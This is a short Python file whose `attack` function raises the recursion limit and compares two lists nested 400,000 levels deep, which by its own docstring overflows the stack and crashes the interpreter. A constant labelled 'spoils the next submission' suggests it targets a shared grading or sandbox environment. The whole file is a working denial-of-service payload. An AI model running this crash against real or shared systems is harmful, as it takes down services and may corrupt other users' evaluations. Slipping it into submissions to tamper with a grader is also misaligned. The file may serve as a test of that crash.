"""Compares two values that are nested so deeply that comparing them overflows the stack."""

import sys

UNPROTECTED = "spoils the next submission"


def attack(target):
    sys.setrecursionlimit(10**9)
    one, other = [], []
    for _ in range(400_000):
        one, other = [one], [other]
    return one == other
